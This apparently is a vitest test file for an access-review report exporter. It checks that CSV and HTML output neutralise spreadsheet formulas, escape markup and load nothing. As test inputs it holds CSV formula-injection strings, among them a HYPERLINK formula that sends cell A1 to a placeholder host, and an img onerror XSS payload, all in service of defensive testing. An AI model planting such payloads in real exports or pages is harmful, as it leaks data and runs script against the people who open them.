import { describe, expect, it } from "vitest";
import { reviewCsv, reviewHtml, reviewText } from "../../../cli/standing/review-report.ts";
import type { CampaignReport } from "../../../shared/contracts/review.ts";

type Item = CampaignReport["items"][number];
const anItem = (changes: Partial<Item> = {}): Item => ({
  role: "Global Administrator",
  holder: "Ada Byron",
  principalId: "a0000000-0000-4000-8000-000000000001",
  scope: "/",
  verdict: "remove",
  by: "Cora Lindt",
  why: "left the team",
  did: "",
  done: true,
  readBackAt: "2027-01-23T02:00:00.000Z",
  record: `change-${"c".repeat(32)} item-1-done`,
  ...changes,
});
const aReport = (changes: Partial<Item> = {}, status = "Done"): CampaignReport => ({
  id: "f".repeat(32),
  number: 0,
  opensAt: "2027-01-09T00:00:00.000Z",
  until: "2027-01-23T01:00:00.000Z",
  status: "Done",
  policyHash: "a".repeat(64),
  reviews: [
    {
      id: "c".repeat(32),
      role: "Global Administrator",
      status,
      population: "b".repeat(64),
      total: 1,
      done: 1,
      reviewers: [
        { name: "Cora Lindt", signed: true },
        { name: "Dev Patel", signed: false },
      ],
    },
  ],
  items: [anItem(changes)],
});

/** The holder's cell, as it stands in the file. */
const holderIn = (csv: string): string =>
  /^Global Administrator,(.*),a0000000-/s.exec(csv.slice(csv.indexOf("\r\n") + 2))?.[1] ?? "";

/** What a spreadsheet that separates by this character takes for a cell that begins with a formula. */
const formulasIn = (csv: string, separator: string): readonly string[] =>
  csv
    .split(/\r\n|\n|\r/)
    .flatMap((line) => line.split(separator))
    .filter((text) => /^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(text));

describe("the report as CSV", () => {
  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\uFF1D1+1",
    'x";=1',
    "x;=1",
    "x; =1",
    "x,=1",
    "x|@a",
    "x\ty\t+1",
    "x\n=1",
    `=HYPERLINK("http://x.example?"&A1,"open")`,
  ])("holds no formula where somebody is called %j, whatever separates the cells", (holder) => {
    const csv = reviewCsv(aReport({ holder, why: holder }));
    for (const separator of [",", ";", "\t", "|"]) expect(formulasIn(csv, separator)).toEqual([]);
  });

  it.each([
    ["Ada Byron", "Ada Byron"],
    ["Byron, Ada", '"Byron, Ada"'],
    ['Ada "the first" Byron', '"Ada ""the first"" Byron"'],
    ["李小龍 مُحَمَّد", "李小龍 مُحَمَّد"],
    ["Anne-Marie O'Neill", "Anne-Marie O'Neill"],
  ])("leaves an honest name as it is: %s", (holder, cell) => {
    expect(holderIn(reviewCsv(aReport({ holder })))).toBe(cell);
  });

  it("names for each outcome when it was read back, and the record that shows it", () => {
    const [heading = "", line = ""] = reviewCsv(aReport()).split("\r\n");
    expect(heading.split(",").slice(-2)).toEqual(["readBackAt", "record"]);
    expect(line.split(",").slice(-2)).toEqual(["2027-01-23T02:00:00.000Z", `change-${"c".repeat(32)} item-1-done`]);
  });
});

describe("the report as a page", () => {
  it("shows names as they are stored: no tag, nothing hidden, nothing turned round", () => {
    const page = reviewHtml(aReport({ holder: "<img src=x onerror=alert(1)>\u202Egnp" }));
    expect(page).toContain("&lt;img src=x onerror=alert(1)&gt;\\u{202e}gnp");
    expect(page).not.toMatch(/<img|\u202E/);
  });

  it("loads nothing", () => {
    expect(reviewHtml(aReport())).not.toMatch(/<script|src=|href=|url\(/);
  });

  it("says when an outcome was read back and which record shows it, and that one was not", () => {
    expect(reviewHtml(aReport())).toMatch(/<td>2027-01-23 02:00[^<]*<\/td>\s*<td>change-c+ item-1-done<\/td>/);
    expect(reviewHtml(aReport({ done: false, readBackAt: "", record: "" }))).toMatch(/<td>no<\/td>\s*<td><\/td>/);
  });
});

describe("the report", () => {
  it("says who did not answer, once nobody is asked any more", () => {
    const over = aReport();
    const open = aReport({}, "AwaitingReview");
    for (const [report, names] of [
      [over, "Cora Lindt (signed), Dev Patel (did not answer)"],
      [open, "Cora Lindt (signed), Dev Patel"],
    ] as const) {
      expect(reviewHtml(report)).toContain(`<td>${names}</td>`);
      expect(reviewText(report).some((line) => line.trimEnd().endsWith(names))).toBe(true);
    }
  });
});
